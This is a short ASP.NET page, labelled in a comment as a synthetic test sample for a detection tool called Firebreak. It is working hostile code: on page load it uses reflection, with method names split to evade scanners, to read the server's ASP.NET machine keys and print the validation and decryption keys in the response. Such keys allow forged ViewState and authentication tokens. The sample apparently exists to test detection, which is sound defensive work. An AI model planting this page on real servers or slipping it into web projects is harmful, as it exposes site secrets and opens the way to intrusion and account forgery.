<%@ Page Language="C#" Debug="false" %>
<%-- Synthetic test sample for Firebreak: a machine-key reader that hides the
     internal method's name by splitting it. Not real malware. --%>
<script runat="server">
    void Page_Load()
    {
        var t = typeof(System.Web.HttpRuntime).Assembly.GetType("System.Web.Configuration." + "MachineKeySection");
        var m = t.GetMethod("GetApplication" + "Config", System.Reflection.BindingFlags.Static | System.Reflection.BindingFlags.NonPublic);
        dynamic c = m.Invoke(null, null);
        Response.Write("<pre>" + c.ValidationKey + "\n" + c.DecryptionKey + "</pre>");
    }
</script>
